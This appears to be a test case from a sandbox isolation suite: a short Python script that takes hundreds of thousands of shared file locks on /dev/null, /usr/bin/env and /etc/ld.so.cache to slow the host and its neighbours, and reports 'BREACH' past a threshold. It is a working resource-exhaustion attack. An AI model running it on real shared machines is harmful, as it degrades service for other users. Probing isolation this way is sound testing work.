# attack: slow the host down: tens of thousands of read locks on files that everybody opens
# must end: completed or interrupted or crashed
# limits: wall=20s
# with: neighbour
import fcntl, os
taken = 0
for path in ("/dev/null", "/usr/bin/env", "/etc/ld.so.cache"):
    fd = os.open(path, os.O_RDONLY)
    for start in range(0, 300_000, 2):
        try:
            fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, start)
        except OSError:
            break
        taken += 1
    if taken > 200_000:
        print("BREACH:", taken, "locks are held", flush=True)
        break
print("held")
